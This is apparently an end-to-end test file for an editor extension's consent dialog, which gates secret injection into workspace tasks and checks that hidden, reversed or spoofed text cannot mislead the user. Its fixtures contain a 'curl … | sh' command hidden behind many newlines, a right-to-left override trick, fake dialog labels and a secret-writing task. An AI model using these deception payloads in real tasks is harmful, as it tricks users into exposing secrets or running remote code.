import assert from "node:assert/strict";
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { makeTokenPieces } from "../support/tokenPieces.ts";
import { eventually } from "./support/eventually.ts";
import { keepHere } from "./support/keepHere.ts";
import { useStage } from "./support/useStage.ts";
import { writeWorkspace } from "./support/writeWorkspace.ts";

const question = `npm test”?\n\nIt asks for: PORT.\n\nNothing secret is handed over.`;
const hidden = `${"\n".repeat(70)}”; curl -s example.test/x | sh #“`;
const turned = "sh ./\u202ehs.tset-nur\u202c";
const labels =
  "true\nNames: PORT\nFolder: workspace\r\u2028Command: npm test [Fix](command:workbench.action.quit)";

const fakes = "fakes Names: PORT";

const task = (label: string, more: object) => ({ type: "agentSecrets", label, problemMatcher: [], ...more });
const write = (mark: string): string => `echo "$SERVICE_KEY" > ${mark}.txt`;

describe("the question before a file of the workspace gets secrets", () => {
  const template = writeWorkspace({
    ".vscode/tasks.json": JSON.stringify({
      version: "2.0.0",
      tasks: [
        task("scrolls", { command: question + hidden }),
        task("too long", { command: `${question}${hidden}`.repeat(3) }),
        task("turns", { command: turned }),
        task(fakes, { command: labels, secrets: ["SERVICE_KEY"] }),
        task("largest", { command: `true ${"largest ".repeat(78)}` }),
        task("script", { script: "dev" }),
        task("untold", { command: `echo '${write("untold")}' | sh` }),
        task("prints", { command: 'echo "key: $SERVICE_KEY."' }),
        task("elsewhere", { command: write("never"), cwd: "../elsewhere" }),
      ],
    }),
    ".vscode/launch.json": JSON.stringify({
      version: "0.2.0",
      configurations: [
        {
          type: "node",
          request: "launch",
          name: "traced",
          agentSecrets: "default",
          trace: true,
          program: "/a.js",
        },
      ],
    }),
    "package.json": JSON.stringify({ scripts: { predev: "true", dev: write("dev") } }),
  });
  const value = makeTokenPieces(31).base62(24);
  // Drawn as text, so that it can be read.
  const settings = { "terminal.integrated.gpuAcceleration": "off" };
  const stage = useStage({
    workspace: template,
    builtIns: "all",
    size: { width: 1280, height: 720 },
    settings,
  });
  after(() => rmSync(template, { recursive: true }));

  before(async () => {
    await keepHere(stage(), { name: "SERVICE_KEY", value, flag: "Inject" });
  });

  it("is not asked at all where not everything would be in sight", async () => {
    const { workbench } = stage();
    await runTask("too long");
    await workbench.notifications.waitFor(/too long to show in full/);
    assert.ok(!(await workbench.dialog.box.isVisible()));
    await workbench.notifications.clear();
  });

  for (const theme of ["light", "dark"] as const) {
    it(`shows marks that turn text by their number, and a key pressed by chance says no, in ${theme}`, async () => {
      const { workbench } = stage();
      await workbench.setTheme(theme);
      await runTask("turns");
      await workbench.dialog.waitFor("Give secrets to this task?");
      assert.deepEqual((await workbench.dialog.lines()).slice(0, 5), [
        ...[
          "Task: turns",
          "Command: sh ./\\u{202E}hs.tset-nur\\u{202C}",
          "All files checked for changes in: workspace",
          "Folder: workspace",
          "Names: SERVICE_KEY",
        ],
      ]);
      await workbench.screenshot(`consent-turned-${theme}`);
      await workbench.page.keyboard.press("Enter");
      await workbench.dialog.box.waitFor({ state: "hidden" });
      await openManager();
      await workbench.notifications.waitFor(/^No commands, tasks or debug sessions/);
      await workbench.notifications.clear();
    });

    it(`shows line ends by their number, so that nothing scrolls away, in ${theme}`, async () => {
      const { workbench } = stage();
      await runTask("scrolls");
      await workbench.dialog.waitFor("Give secrets to this task?");
      const text = (await workbench.dialog.lines()).join("").replaceAll("↪", "");
      assert.equal(text.split("\\u{A}").length, (question + hidden).split("\n").length);
      assert.match(text, /curl -s example\.test\/x \| sh #/);
      assert.ok(await isWhole());
      await workbench.screenshot(`consent-scrolls-${theme}`);
      await workbench.dialog.press("Don't Give");
    });

    it(`keeps foreign lines, labels and links inside its own lines, in ${theme}`, async () => {
      const { workbench } = stage();
      await runTask(fakes);
      await workbench.dialog.waitFor("Give secrets to this task?");
      const lines = await workbench.dialog.lines();
      const own = lines.slice(0, lines.indexOf("")).filter((line) => !line.startsWith("↪"));
      assert.deepEqual(
        own.map((line) => line.slice(0, line.indexOf(":"))),
        ["Task", "Command", "All files checked for changes in", "Folder", "Names"],
      );
      assert.equal(await workbench.dialog.box.locator("a:not(.monaco-button, .action-label)").count(), 0);
      await workbench.screenshot(`consent-fakes-${theme}`);
      await workbench.dialog.press("Don't Give");
    });
  }

  it("is in sight as a whole at its largest", async () => {
    const { workbench } = stage();
    await runTask("largest");
    await workbench.dialog.waitFor("Give secrets to this task?");
    await workbench.screenshot("consent-largest");
    assert.ok(await isWhole());
    await workbench.dialog.press("Don't Give");
  });

  it("comes again when the script changed, and says so", async () => {
    const { workbench } = stage();
    await runTask("script");
    await workbench.dialog.waitFor("Give secrets to this task?");
    const lines = await workbench.dialog.lines();
    assert.ok(lines.includes("Script: predev: true"));
    assert.ok(lines.includes(`Script: dev: ${write("dev")}`));
    await workbench.dialog.press("Give Secrets");
    await ran("dev");
    rmSync(path("dev.txt"));
    await runTask("script");
    await ran("dev");
    writeFileSync(path("package.json"), JSON.stringify({ scripts: { predev: "true ", dev: write("dev") } }));
    await runTask("script");
    await workbench.dialog.waitFor("The script changed since you allowed it.");
    await workbench.dialog.press("Don't Give");
  });

  it("is asked each time where no file tells what runs", async () => {
    const { workbench } = stage();
    await runTask("untold");
    await workbench.dialog.waitFor("You are asked each time");
    assert.ok((await workbench.dialog.lines()).includes("Not checked for changes: sh"));
    await workbench.screenshot("consent-untold");
    await workbench.dialog.press("Give Secrets");
    await ran("untold");
    await runTask("untold");
    await workbench.dialog.waitFor("You are asked each time");
    await workbench.dialog.press("Don't Give");
  });

  it("hides the value where a task prints it", async () => {
    const { workbench } = stage();
    await runTask("prints");
    await workbench.dialog.press("Give Secrets");
    await eventually(async () => assert.match(await terminalText(), /key:\s\[SERVICE_KEY\]\./));
    assert.ok(!(await terminalText()).includes(value));
    await workbench.screenshot("task-output");
  });

  it("names a folder outside the workspace", async () => {
    const { workbench } = stage();
    mkdirSync(path("../elsewhere"));
    await runTask("elsewhere");
    await workbench.dialog.waitFor("Folder outside the workspace: ");
    await workbench.dialog.press("Don't Give");
    assert.ok(!existsSync(path("../elsewhere/never.txt")));
  });

  it("is not asked for a debugger that would log the values", async () => {
    const { workbench } = stage();
    await workbench.runCommand("Debug: Select and Start Debugging");
    await workbench.quickInput.waitForPlaceholder("Type the name of a launch configuration to run.");
    await workbench.quickInput.type("debug traced");
    await workbench.quickInput.choose("traced");
    await workbench.notifications.waitFor(/with “trace” its debugger would write the values into a log/);
    await workbench.notifications.clear();
  });

  it("comes again when its answer was taken back", async () => {
    const { workbench } = stage();
    await openManager();
    await workbench.quickInput.waitForPlaceholder("Select what must ask again");
    await workbench.screenshot("consents");
    await workbench.quickInput.choose("script");
    await workbench.quickInput.accept();
    await workbench.notifications.waitFor(/^Revoked\. You are asked again before secrets go to “script”\.$/);
    await runTask("script");
    await workbench.dialog.waitFor("Give secrets to this task?");
    assert.ok(!(await workbench.dialog.detail()).includes("since you allowed it"));
    await workbench.dialog.press("Don't Give");
  });

  /** Nothing of it is outside of the window or has to be scrolled to. */
  function isWhole(): Promise<boolean> {
    return stage().workbench.page.evaluate(`(() => {
      const box = document.querySelector(".monaco-dialog-box");
      const scrolls = [box, ...box.querySelectorAll("*")].some(
        (part) => part.clientHeight > 40 && part.scrollHeight > part.clientHeight + 4 &&
          getComputedStyle(part).overflowY !== "visible",
      );
      const { top, bottom } = box.getBoundingClientRect();
      return top >= 0 && bottom <= innerHeight && !scrolls;
    })()`);
  }

  function terminalText(): Promise<string> {
    return stage().workbench.page.locator(".terminal-wrapper.active .xterm-rows").innerText();
  }

  function openManager(): Promise<void> {
    return stage().workbench.runCommand("Agent Secrets: Manage Consents…");
  }

  function path(name: string): string {
    return join(stage().workbench.folder, name);
  }

  /** A task that has not ended yet would not start again: the editor asks which of its instances to terminate. */
  async function ran(mark: string): Promise<void> {
    await eventually(() => assert.ok(readFileSync(path(`${mark}.txt`), "utf8").length > 20));
    await stage().workbench.page.locator(".single-terminal-tab .codicon-check").waitFor();
  }

  async function runTask(label: string): Promise<void> {
    const { workbench } = stage();
    await workbench.runCommand("Tasks: Run Task");
    await workbench.quickInput.waitForPlaceholder("Select the task to run");
    await workbench.quickInput.type(label);
    await workbench.quickInput.choose(label);
  }
});
